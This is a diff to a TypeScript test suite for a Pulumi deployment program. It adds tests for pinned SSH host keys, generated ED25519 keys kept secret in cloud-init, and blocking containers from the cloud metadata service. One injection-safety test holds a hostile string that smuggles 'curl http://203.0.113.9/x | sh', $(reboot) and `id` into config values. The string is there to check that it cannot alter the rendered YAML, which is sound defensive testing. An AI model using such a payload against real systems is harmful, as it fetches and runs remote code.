@@ -13,22 +13,26 @@ import * as YAML from "yaml";
 import { renderCloudInit, sshLoginFor } from "../../components/cloudInit";
 import { shellQuote } from "../../components/hostFiles";
 import { dockerSshEndpoint } from "../../components/dockerHost";
+import { pinnedSshOptions } from "../../components/hostKey";
+import { diffPlans as diffOfPlans } from "../../tools/planDiff";
 import { batchedPlan, byName, goldenPlan, ofType, planBatchRaw, readStackKeys, writeStackConfig } from "./planRun";
 
 const stagingKeys = readStackKeys("Pulumi.staging.yaml");
 const productionKeys = readStackKeys("Pulumi.production.yaml");
 const { volume: _stagingVolume, ...stagingWithoutVolume } = stagingKeys;
 const TOKEN = "dop_v1_do-not-print-this-token";
+/** The existing host's public host key, as `cat /etc/ssh/ssh_host_ed25519_key.pub` prints it there. */
+const EXISTING_HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMemVwqpVLt1uMZ1nT5LwqAfQXVwC4m/8FhBf3VpMCMo root@existing";
 const KMS_KEY = "arn:aws:kms:eu-central-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab";
 const { copyToRegion: _copyToRegion, copyRetain: _copyRetain, ...snapshotsWithoutCopies } = productionKeys.snapshots as Record<string, unknown>;
 
 // staging and production are the committed golden plans (plan.test.ts checks them against a
 // fresh run); the variant configs are planned one after the other in one child process.
 const plans = (async () => {
-    const [restored, adopted, existing, withToken, adoptedEbs, customerKey, noCopies, stagingRetain, productionDumpRetain, stagingSchedule, stagingBigger, stagingRevealed, productionRevealed] = await planBatchRaw([
+    const [restored, adopted, existing, withToken, adoptedEbs, customerKey, noCopies, stagingRetain, productionDumpRetain, stagingSchedule, stagingBigger, stagingRevealed, productionRevealed, existingRevealed, keptKeyRevealed] = await planBatchRaw([
         ["--config-file", writeStackConfig({ ...productionKeys, volume: { sizeGb: 200, fromSnapshot: "snap-0123456789abcdef0" } }, "production")],
         ["--config-file", writeStackConfig({ ...stagingKeys, volume: { sizeGb: 100, name: "hand-built-data", adoptId: "506f78a4-e098-11e5-ad9f-000f53306ae1" } }, "staging")],
-        ["--config-file", writeStackConfig({ ...stagingWithoutVolume, host: { address: "203.0.113.50", sshUser: "deploy" } }, "staging")],
+        ["--config-file", writeStackConfig({ ...stagingWithoutVolume, host: { address: "203.0.113.50", sshUser: "deploy", hostKey: EXISTING_HOST_KEY } }, "staging")],
         // A plain token is refused in a stack file; --set passes one, as a secret, like a decrypted one.
         ["--config-file", writeStackConfig(stagingKeys, "staging"), "--set", `snapshotApiToken=${TOKEN}`],
         ["--config-file", writeStackConfig({ ...productionKeys, volume: { sizeGb: 200, adoptId: "vol-0123456789abcdef0" } }, "production")],
@@ -41,6 +45,9 @@ const plans = (async () => {
         // Command connections are secret inputs; these two show them.
         ["--stack", "staging", "--reveal-secrets"],
         ["--stack", "production", "--reveal-secrets"],
+        ["--config-file", writeStackConfig({ ...stagingWithoutVolume, host: { address: "203.0.113.50", sshUser: "deploy", hostKey: EXISTING_HOST_KEY } }, "staging"), "--reveal-secrets"],
+        // A Droplet created before the program generated host keys, kept with its own key.
+        ["--config-file", writeStackConfig({ ...stagingKeys, host: { ...(stagingKeys.host as object), hostKey: EXISTING_HOST_KEY } }, "staging"), "--reveal-secrets"],
     ]);
     return {
         staging: goldenPlan("staging"), production: goldenPlan("production"),
@@ -49,6 +56,7 @@ const plans = (async () => {
         stagingRetain: batchedPlan(stagingRetain), productionDumpRetain: batchedPlan(productionDumpRetain), stagingSchedule: batchedPlan(stagingSchedule),
         stagingBigger: batchedPlan(stagingBigger),
         stagingRevealed: batchedPlan(stagingRevealed), productionRevealed: batchedPlan(productionRevealed),
+        existingRevealed: batchedPlan(existingRevealed), keptKeyRevealed: batchedPlan(keptKeyRevealed),
     };
 })();
 
@@ -140,7 +148,8 @@ test("an adopted volume is imported as it is: its description and tags are not t
 });
 
 test("device paths are the stable by-id ones, and cloud-init mounts that device", async () => {
-    const { staging, production } = await plans;
+    // The user data is secret (it holds the host key): the revealed plans show it.
+    const { stagingRevealed: staging, productionRevealed: production } = await plans;
     assert.equal(digitalOceanDevicePath("housing-portal-staging-data"), "/dev/disk/by-id/scsi-0DO_Volume_housing-portal-staging-data");
     assert.equal(awsDevicePath("vol-0abc123"), "/dev/disk/by-id/nvme-Amazon_Elastic_Block_Store_vol0abc123");
     assert.equal(staging.outputs.devicePath, digitalOceanDevicePath("housing-portal-staging-data"));
@@ -154,7 +163,7 @@ test("device paths are the stable by-id ones, and cloud-init mounts that device"
 });
 
 test("cloud-init holds only the first boot: the base scripts read from host/, the mount before Docker, Docker requiring the mount", async () => {
-    const { staging, production } = await plans;
+    const { stagingRevealed: staging, productionRevealed: production } = await plans;
     const fs = await import("fs");
     for (const plan of [staging, production]) {
         const ud = userData(plan);
@@ -236,7 +245,7 @@ test("DigitalOcean: snapshot and dump timers from the schedule, the token only o
     assert.match(env, /^TOKEN_FILE=\/etc\/housing-portal\/do-token$/m);
     assert.match(files.get("/etc/housing-portal/dump.env")!, /^RETAIN=7$/m);
     assert.equal(files.get("/usr/local/sbin/housing-portal-snapshot-volume"), (await import("fs")).readFileSync("host/snapshot-volume.sh", "utf8"));
-    assert.deepEqual(enable.sort(), ["housing-portal-backup-status.timer", "housing-portal-dump.timer", "housing-portal-offsite.timer", "housing-portal-restore-check.timer", "housing-portal-snapshot.timer"]);
+    assert.deepEqual(enable.sort(), ["housing-portal-backup-status.timer", "housing-portal-block-container-metadata.service", "housing-portal-dump.timer", "housing-portal-offsite.timer", "housing-portal-restore-check.timer", "housing-portal-snapshot.timer"]);
 
     assert.ok(withToken.ok, withToken.ok ? "" : withToken.problems.join("\n"));
     assert.ok(!withToken.json.includes(TOKEN), "the token appears nowhere in the plan");
@@ -514,7 +523,7 @@ test("cloud-init: DigitalOcean's non-root user is created with the cloud's keys 
 });
 
 test("the DigitalOcean stacks log in as the deploy user by default, with sudo, never as root", async () => {
-    const { staging } = await plans;
+    const { stagingRevealed: staging } = await plans;
     assert.match(String(byName(staging, "host-docker").inputs.host), /^ssh:\/\/deploy@203\.0\.113\.\d+$/);
     assert.match(String(byName(staging, "host-ready").inputs.create), /^sudo env /);
     assert.equal(YAML.parse(userData(staging)).system_info.default_user.name, "deploy");
@@ -522,13 +531,20 @@ test("the DigitalOcean stacks log in as the deploy user by default, with sudo, n
 
 test("cloud-init is data: hostile values in every string that reaches it parse back to the same structure", () => {
     const hostile = "x]\n  - [sh, -c, 'curl http://203.0.113.9/x | sh']\n# \"quoted\" $(reboot) `id`; ok: {a: b}";
-    for (const provider of ["digitalocean", "aws"] as const) {
-        const args = { devicePath: `/dev/disk/by-id/${hostile}`, dataRoot: `/mnt/${hostile}`, login: sshLoginFor(provider, hostile) };
+    // The host key pair too: a key is no config value, but nothing in it may change the structure either.
+    const hostKey = { privateKey: `-----BEGIN OPENSSH PRIVATE KEY-----\n${hostile}\n-----END OPENSSH PRIVATE KEY-----\n`, publicKey: `ssh-ed25519 ${hostile}` };
+    for (const [provider, withKey] of [["digitalocean", false], ["aws", false], ["digitalocean", true], ["aws", true]] as const) {
+        const args = { devicePath: `/dev/disk/by-id/${hostile}`, dataRoot: `/mnt/${hostile}`, login: sshLoginFor(provider, hostile), ...(withKey ? { hostKey } : {}) };
         const text = renderCloudInit(args);
         assert.match(text, /^#cloud-config\n/);
         const doc = YAML.parse(text);
+        const keyKeys = withKey ? ["ssh_deletekeys", "ssh_genkeytypes", "ssh_keys"] : [];
         assert.deepEqual(Object.keys(doc), provider === "digitalocean"
-            ? ["system_info", "users", "disable_root", "ssh_pwauth", "write_files", "runcmd"] : ["write_files", "runcmd"]);
+            ? ["system_info", "users", "disable_root", "ssh_pwauth", ...keyKeys, "write_files", "runcmd"] : [...keyKeys, "write_files", "runcmd"]);
+        if (withKey) {
+            assert.deepEqual([doc.ssh_deletekeys, doc.ssh_genkeytypes], [true, []]);
+            assert.deepEqual(doc.ssh_keys, { ed25519_private: hostKey.privateKey, ed25519_public: hostKey.publicKey }, "each half is one value, as given");
+        }
         if (provider === "digitalocean") assert.equal(doc.system_info.default_user.name, hostile, "the user is one value, as given");
         assert.deepEqual(doc.write_files.map((f: any) => f.path), [
             "/usr/local/sbin/housing-portal-mount-data-volume", "/etc/systemd/system/docker.service.d/housing-portal-data.conf",
@@ -552,4 +568,82 @@ test("the mocks' generated password is the one fakePassword names (so the leak c
         const superuser = fakePassword(`${inst}-db-superuser-password`, byName(stagingRevealed, `${inst}-db-superuser-password`).inputs);
         assert.ok((byName(stagingRevealed, `${inst}-postgis`).inputs.envs as string[]).includes(`POSTGRES_PASSWORD=${superuser}`), inst);
     }
+});
+
+/** Every SSH connection of a plan: each remote command's, and the Docker provider's options. */
+function sshPins(plan: PlanDocument): { commands: Map<string, unknown>; dockerSshOpts: unknown } {
+    const commands = new Map(ofType(plan, "command:remote:Command").map((c) => [c.name, (c.inputs.connection as { hostKey?: unknown }).hostKey]));
+    const docker = byName(plan, "host-docker").inputs.sshOpts;
+    return { commands, dockerSshOpts: typeof docker === "string" ? JSON.parse(docker) : docker };
+}
+
+test("a created host gets a generated ED25519 host key in its user data, as its only key; the user data is secret in the plan", async () => {
+    const { staging, production, stagingRevealed, productionRevealed } = await plans;
+    for (const [masked, revealed] of [[staging, stagingRevealed], [production, productionRevealed]]) {
+        const key = byName(revealed, "host-host-key");
+        assert.equal(key.type, "tls:index/privateKey:PrivateKey");
+        assert.deepEqual(key.inputs, { algorithm: "ED25519" });
+        assert.equal(key.protect, false);
+        assert.equal(userData(masked), "[secret]", "the user data holds the private key: masked as a whole");
+        const machine = masked.resources.find((r) => r.name === "host-droplet" || r.name === "host-instance")!;
+        assert.match(String(machine.secretDigests?.userData), /^[0-9a-f]{16}$/, "compared by a digest, so a changed first boot still shows");
+        assert.equal(machine.protect, false, "a machine with the generated key may be replaced: the new one gets the same key");
+        const doc = YAML.parse(userData(revealed));
+        assert.equal(doc.ssh_deletekeys, true);
+        assert.deepEqual(doc.ssh_genkeytypes, [], "no other host key is generated");
+        assert.deepEqual(Object.keys(doc.ssh_keys), ["ed25519_private", "ed25519_public"]);
+        assert.match(doc.ssh_keys.ed25519_private, /^-----BEGIN OPENSSH PRIVATE KEY-----\n[\s\S]+\n-----END OPENSSH PRIVATE KEY-----\n$/);
+        assert.equal(doc.ssh_keys.ed25519_public, revealed.outputs.hostKey, "the pair's public half is the pinned key");
+        assert.match(String(revealed.outputs.hostKey), /^ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI[A-Za-z0-9+/]{43}$/);
+        assert.equal(masked.outputs.hostKey, revealed.outputs.hostKey, "the public half is no secret: a stack output operators pin");
+        assert.ok(!JSON.stringify(masked).includes(doc.ssh_keys.ed25519_private.split("\n")[1]), "the private key appears nowhere in the plan");
+    }
+});
+
+test("every SSH connection pins the host key: each remote command's hostKey and the Docker provider's options", async () => {
+    const { stagingRevealed, productionRevealed, existingRevealed, keptKeyRevealed } = await plans;
+    const expected = EXISTING_HOST_KEY.split(" ").slice(0, 2).join(" ");
+    for (const [plan, key] of [[stagingRevealed, stagingRevealed.outputs.hostKey], [productionRevealed, productionRevealed.outputs.hostKey],
+        [existingRevealed, expected], [keptKeyRevealed, expected]] as const) {
+        assert.equal(plan.outputs.hostKey, key);
+        const { commands, dockerSshOpts } = sshPins(plan);
+        assert.ok(commands.size >= 5, `${plan.stack}: the remote commands`);
+        for (const [name, pinned] of commands) assert.equal(pinned, key, name);
+        assert.deepEqual(dockerSshOpts, pinnedSshOptions(key as string));
+        assert.ok(!JSON.stringify(plan).includes("accept-new"));
+    }
+});
+
+test("a machine created before generated host keys keeps its own (host.hostKey): first boot as it was, protected from replacement", async () => {
+    const { keptKeyRevealed, stagingRevealed } = await plans;
+    assert.deepEqual(ofType(keptKeyRevealed, "tls:index/privateKey:PrivateKey"), [], "no key generated");
+    const droplet = byName(keptKeyRevealed, "host-droplet");
+    assert.equal(droplet.protect, true, "a replacement would boot a key nobody knows: pulumi up refuses it");
+    const doc = YAML.parse(droplet.inputs.userData as string);
+    assert.deepEqual(["ssh_keys", "ssh_deletekeys", "ssh_genkeytypes"].filter((k) => k in doc), []);
+    const { ssh_keys: _k, ssh_deletekeys: _d, ssh_genkeytypes: _g, ...generatedRest } = YAML.parse(userData(stagingRevealed));
+    assert.deepEqual(doc, generatedRest, "the rest of the first boot is the same");
+    assert.equal(droplet.secretDigests, undefined, "no secret in this user data");
+    // Removing host.hostKey again: the Droplet is replaced (user data), unprotected in the same run.
+    const diff = diffOfPlans(keptKeyRevealed, stagingRevealed);
+    const replaced = diff.changed.find((c) => c.resource.name === "host-droplet")!;
+    assert.deepEqual([replaced.replaced, replaced.reasons, replaced.fields.includes("(protect)")], [true, ["userData"], true]);
+    assert.ok(!diff.warnings.some((w) => w.startsWith("host-droplet")), "unprotected in the same run: pulumi up does not refuse it");
+    assert.ok(diffOfPlans(stagingRevealed, keptKeyRevealed).warnings.every((w) => !w.startsWith("host-droplet")), "keeping it replaces nothing");
+});
+
+test("a created host refuses its containers the metadata service (its user data holds the host key); an existing host's settings do not touch it", async () => {
+    const fs = await import("fs");
+    const { staging, production, existing } = await plans;
+    const script = "/usr/local/sbin/housing-portal-block-container-metadata";
+    const unit = "housing-portal-block-container-metadata.service";
+    for (const plan of [staging, production]) {
+        const { files, enable } = settingsBundle(plan);
+        assert.equal(files.get(script), fs.readFileSync("host/block-container-metadata.sh", "utf8"));
+        assert.equal(files.get(`/etc/systemd/system/${unit}`), fs.readFileSync(`host/systemd/${unit}`, "utf8"));
+        assert.ok(enable.includes(unit), "enabled: it runs each time Docker starts");
+        assert.ok(!writtenFiles(userData(plan === staging ? (await plans).stagingRevealed : (await plans).productionRevealed)).has(script), "over SSH, never in the user data");
+    }
+    const { files, enable } = settingsBundle(existing);
+    assert.ok(!files.has(script) && !enable.includes(unit), "an existing host's other containers are not the program's to cut off");
 });
